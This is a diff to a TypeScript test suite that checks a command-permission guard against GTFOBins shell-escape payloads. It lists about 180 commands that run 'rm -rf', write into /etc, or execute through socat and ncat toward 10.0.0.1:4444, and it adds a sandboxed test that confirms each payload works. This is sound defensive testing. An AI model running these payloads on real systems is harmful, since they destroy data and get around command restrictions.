+ * payloads that need a network, a terminal, a display or root-only namespaces, are judged by GTFOBins and the
+ * programs' manuals alone.
+ */
+const CONFIRMED_HERE: ReadonlySet<string> = new Set([
+  "bash -c 'rm -rf /tmp/x'",
+  "echo 'rm -rf /tmp/x' | bash",
+  "bash -c 'echo DATA > /etc/x'",
+  "csh -c 'rm -rf /tmp/x'",
+  "echo 'rm -rf /tmp/x' | csh",
+  "csh -c 'echo DATA > /etc/x'",
+  "dash -c 'rm -rf /tmp/x'",
+  "echo 'rm -rf /tmp/x' | dash",
+  "dash -c 'echo DATA > /etc/x'",
+  "ksh -c 'rm -rf /tmp/x'",
+  "echo 'rm -rf /tmp/x' | ksh",
+  "ksh -c 'echo DATA > /etc/x'",
+  "mksh -c 'rm -rf /tmp/x'",
+  "echo 'rm -rf /tmp/x' | mksh",
+  "mksh -c 'echo DATA > /etc/x'",
+  "posh -c 'rm -rf /tmp/x'",
+  "echo 'rm -rf /tmp/x' | posh",
+  "posh -c 'echo DATA > /etc/x'",
+  "sh -c 'rm -rf /tmp/x'",
+  "echo 'rm -rf /tmp/x' | sh",
+  "sh -c 'echo DATA > /etc/x'",
+  "tcsh -c 'rm -rf /tmp/x'",
+  "echo 'rm -rf /tmp/x' | tcsh",
+  "tcsh -c 'echo DATA > /etc/x'",
+  "yash -c 'rm -rf /tmp/x'",
+  "echo 'rm -rf /tmp/x' | yash",
+  "yash -c 'echo DATA > /etc/x'",
+  "zsh -c 'rm -rf /tmp/x'",
+  "echo 'rm -rf /tmp/x' | zsh",
+  "zsh -c 'echo DATA > /etc/x'",
+  "busybox sh -c 'rm -rf /tmp/x'",
+  "busybox rm -rf /tmp/x",
+  "env rm -rf /tmp/x",
+  "env -i rm -rf /tmp/x",
+  "env -S 'rm -rf /tmp/x'",
+  "nice rm -rf /tmp/x",
+  "nice -n 5 rm -rf /tmp/x",
+  "ionice rm -rf /tmp/x",
+  "ionice -c 3 rm -rf /tmp/x",
+  "stdbuf -i0 rm -rf /tmp/x",
+  "stdbuf -o L rm -rf /tmp/x",
+  "taskset 1 rm -rf /tmp/x",
+  "taskset -c 0 rm -rf /tmp/x",
+  "timeout 7d rm -rf /tmp/x",
+  "timeout --foreground 7d rm -rf /tmp/x",
+  "time rm -rf /tmp/x",
+  "/usr/bin/time rm -rf /tmp/x",
+  "/usr/bin/time -o /etc/x echo DATA",
+  "setarch x86_64 rm -rf /tmp/x",
+  "setarch x86_64 -R rm -rf /tmp/x",
+  "flock -u / rm -rf /tmp/x",
+  "flock /tmp/l -c 'rm -rf /tmp/x'",
+  "nohup rm -rf /tmp/x",
+  "setsid rm -rf /tmp/x",
+  "unshare rm -rf /tmp/x",
+  "unshare -r rm -rf /tmp/x",
+  "nsenter rm -rf /tmp/x",
+  "strace -o /dev/null rm -rf /tmp/x",
+  "strace -s 999 -o /etc/x strace - DATA",
+  "ltrace -b -L rm -rf /tmp/x",
+  "ltrace -s 999 -o /etc/x ltrace -F DATA",
+  "valgrind rm -rf /tmp/x",
+  "xargs -a /dev/null rm -rf /tmp/x",
+  "echo x | xargs rm -rf /tmp/x",
+  "watch -x rm -rf /tmp/x",
+  "watch 'rm -rf /tmp/x'",
+  "script -q /dev/null -c 'rm -rf /tmp/x'",
+  "script -qc 'rm -rf /tmp/x' /dev/null",
+  "script -q -c 'echo DATA' /etc/x",
+  "rlwrap rm -rf /tmp/x",
+  "rlwrap -l /etc/x echo DATA",
+  "logsave /dev/null rm -rf /tmp/x",
+  "logsave /etc/x echo DATA",
+  "cpulimit -l 100 -f rm -rf /tmp/x",
+  "cpulimit -l 100 -f -- rm -rf /tmp/x",
+  "perf stat rm -rf /tmp/x",
+  "perf record -o /dev/null rm -rf /tmp/x",
+  "capsh -- -c 'rm -rf /tmp/x'",
+  "chrt -o 0 rm -rf /tmp/x",
+  "prlimit rm -rf /tmp/x",
+  "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /tmp/x",
+  "ssh-agent rm -rf /tmp/x",
+  "unbuffer rm -rf /tmp/x",
+  "echo x | msgfilter -P rm -rf /tmp/x",
+  "awk 'BEGIN {system(\"rm -rf /tmp/x\")}'",
+  "awk 'BEGIN {while (\"rm -rf /tmp/x\" | getline) print}'",
+  "awk 'BEGIN {print \"DATA\" > \"/etc/x\"}'",
+  "gawk 'BEGIN {system(\"rm -rf /tmp/x\")}'",
+  "gawk 'BEGIN {print \"DATA\" > \"/etc/x\"}'",
+  "mawk 'BEGIN {system(\"rm -rf /tmp/x\")}'",
+  "mawk 'BEGIN {print \"DATA\" > \"/etc/x\"}'",
+  "nawk 'BEGIN {system(\"rm -rf /tmp/x\")}'",
+  "nawk 'BEGIN {print \"DATA\" > \"/etc/x\"}'",
+  "perl -e 'exec \"rm -rf /tmp/x\";'",
+  "perl -e 'system(\"rm -rf /tmp/x\")'",
+  "echo 'system(\"rm -rf /tmp/x\")' | perl",
+  "python3 -c 'import os; os.system(\"rm -rf /tmp/x\")'",
+  "echo 'import os; os.system(\"rm -rf /tmp/x\")' | python3",
+  "lua -e 'os.execute(\"rm -rf /tmp/x\")'",
+  "lua -e 'io.open(\"/etc/x\", \"w\"):write(\"DATA\")'",
+  "node -e 'require(\"child_process\").execSync(\"rm -rf /tmp/x\")'",
+  "echo 'exec rm -rf /tmp/x' | tclsh",
+  "expect -c 'exec rm -rf /tmp/x'",
+  "dc -e '!rm -rf /tmp/x'",
+  "echo '!rm -rf /tmp/x' | dc",
+  "echo 'esyscmd(rm -rf /tmp/x)' | m4",
+  "m4 <<< 'syscmd(rm -rf /tmp/x)'",
+  "vim -c ':!rm -rf /tmp/x'",
+  "vim -c ':w /etc/x' -c ':q'",
+  "vim --cmd ':silent !rm -rf /tmp/x'",
+  "vim -es -c '!rm -rf /tmp/x' -c ':q'",
+  "vi -c ':!rm -rf /tmp/x'",
+  "vi +':!rm -rf /tmp/x'",
+  "view -c ':!rm -rf /tmp/x'",
+  "vimdiff -c ':!rm -rf /tmp/x'",
+  "ex -c ':!rm -rf /tmp/x'",
+  "echo '!rm -rf /tmp/x' | ex",
+  "echo '!rm -rf /tmp/x' | ed",
+  "ed -s a.txt <<< '!rm -rf /tmp/x'",
+  "printf '!rm -rf /tmp/x\\nq\\n' | ed",
+  "LESSOPEN='|rm -rf /tmp/x %s' less a.txt",
+  "git diff --no-index --output=/etc/x a.txt b.txt",
+  "echo '!rm -rf /tmp/x' | debugfs",
+  "printf '.PS\\nsh X rm -rf /tmp/x X\\n.PE\\n' | pic -U",
+  "gdb -nx -ex '!rm -rf /tmp/x' -ex quit",
+  "gdb -nx -ex 'python import os; os.system(\"rm -rf /tmp/x\")' -ex quit",
+  "echo 'shell rm -rf /tmp/x' | gdb -nx",
+  "mysql -e '\\! rm -rf /tmp/x'",
+  "mysql -e 'system rm -rf /tmp/x'",
+  "echo '\\! rm -rf /tmp/x' | mysql",
+  "psql -c '\\! rm -rf /tmp/x'",
+  "echo '\\! rm -rf /tmp/x' | psql",
+  "sqlite3 /dev/null '.shell rm -rf /tmp/x'",
+  "echo '.shell rm -rf /tmp/x' | sqlite3",
+  "sqlite3 /dev/null -cmd '.output /etc/x' 'select 1;'",
+  "tmux -c 'rm -rf /tmp/x'",
+  "find . -exec rm -rf /tmp/x \\; -quit",
+  "find . -execdir rm -rf /tmp/x \\; -quit",
+  "find / -fprintf /etc/x DATA -quit",
+  "sed -n '1e rm -rf /tmp/x' /etc/hosts",
+  "sed 's/.*/rm -rf \\/tmp\\/x/e' /etc/hosts",
+  "sed -n 'w /etc/x' a.txt",
+  "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='rm -rf /tmp/x'",
+  "zip /tmp/y.zip /etc/hosts -T -TT 'rm -rf /tmp/x #'",
+  "rsync -e 'sh -c \"rm -rf /tmp/x\"' 127.0.0.1:/dev/null",
+  "ssh -o ProxyCommand=';rm -rf /tmp/x 0<&2 1>&2' x",
+  "scp -o ProxyCommand=';rm -rf /tmp/x 0<&2 1>&2' x y:",
+  "split --filter 'rm -rf /tmp/x' a.txt",
+  "csvtool call 'rm -rf /tmp/x;false' a.csv",
+  "csvtool trim t -o /etc/x a.csv",
+  "make -s --eval=$'x:\\n\\t-rm -rf /tmp/x'",
+  "npm exec -c 'rm -rf /tmp/x'",
+  "enscript /dev/null -qo /dev/null -I 'rm -rf /tmp/x'",
+  "socat stdin exec:'rm -rf /tmp/x'",
+  "socat - SYSTEM:'rm -rf /tmp/x'",
+  "socat -u tcp-connect:10.0.0.1:4444 open:/etc/x,creat",
+  "ncat -c 'rm -rf /tmp/x' 10.0.0.1 4444",
+  "ncat --sh-exec 'rm -rf /tmp/x' 10.0.0.1 4444",
+  "echo DATA | openssl enc -out /etc/x",
+  "openssl s_client -quiet -connect 10.0.0.1:4444 -msgfile /etc/x",
+  "wget -O /etc/x http://h/y",
+  "curl file:///etc/hosts -o /etc/x",
+  "iconv -f 8859_1 -t 8859_1 -o /etc/x a.txt",
+  "shuf -e DATA -o /etc/x",
+  "uniq a.txt /etc/x",
+  "echo 44415441 | xxd -r -p - /etc/x",
+  "uudecode -o /etc/x a.uu",
+  "echo DATA | dd of=/etc/x",
+  "sort -o /etc/x a.txt",
+  "echo '.sy rm -rf /tmp/x' | groff -U",
+  "apt-get update -o APT::Update::Pre-Invoke::='rm -rf /tmp/x'",
+]);
 
 function guardFor(bin: GtfoBinary) {
   const allow = [...(bin.allow ?? [`${bin.bin}:*`]), ...ALWAYS_ALLOWED];
@@ -291,4 +476,31 @@ describe("GTFOBins: no payload of a permitted program is allowed; a payload whos
     });
   }
   it("covers at least 120 binaries", () => expect(new Set(BINARIES.map((bin) => bin.bin)).size).toBeGreaterThanOrEqual(120));
+});
+
+/** A payload as run for real: the inner command touches MARKER, the protected file is the scratch file OUT. */
+const harmless = (command: string) => command.replaceAll(X, "touch MARKER").replaceAll(X.replace(/\//g, "\\/"), "touch MARKER").replaceAll("/etc/x", "OUT");
+const installed = (program: string) => spawnSync("bash", ["-c", `command -v -- ${JSON.stringify(program)}`]).status === 0;
+// Payloads whose hooks run outside the scratch directory, need the network, or change the machine are not run again.
+const NOT_RERUN = /^(?:apt-get|apt) |cpan|^curl |^wget /;
+
+describe.skipIf(process.env.GG_GTFOBINS_RUN !== "1")("GTFOBins: the confirmed payloads run their inner command for real", () => {
+  const cases = BINARIES.flatMap((bin) => bin.cases.filter((c) => CONFIRMED_HERE.has(c.command) && !NOT_RERUN.test(c.command)).map((c) => [c.command, bin.bin] as const));
+  it("every confirmed payload is a case of the sweep", () => {
+    const all = new Set(BINARIES.flatMap((bin) => bin.cases.map((c) => c.command)));
+    expect([...CONFIRMED_HERE].filter((command) => !all.has(command))).toEqual([]);
+  });
+  it.each(cases)("%s", (command, bin) => {
+    // A program not installed here is judged by GTFOBins alone (its case in the sweep still runs).
+    if (!installed(bin)) return;
+    const dir = mkdtempSync(path.join(tmpdir(), "gtfobins-"));
+    try {
+      writeFileSync(path.join(dir, "a.txt"), "hello\nworld\n");
+      writeFileSync(path.join(dir, "a.csv"), "a,b\n1,2\n");
+      const run = spawnSync("bash", ["-c", harmless(command)], { cwd: dir, timeout: 8000, stdio: ["ignore", "pipe", "pipe"], env: { ...process.env, HOME: dir, TERM: "dumb" } });
+      expect(existsSync(path.join(dir, "MARKER")) || existsSync(path.join(dir, "OUT")), `${harmless(command)}: ${String(run.stderr)}`).toBe(true);
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  }, 20_000);
 });
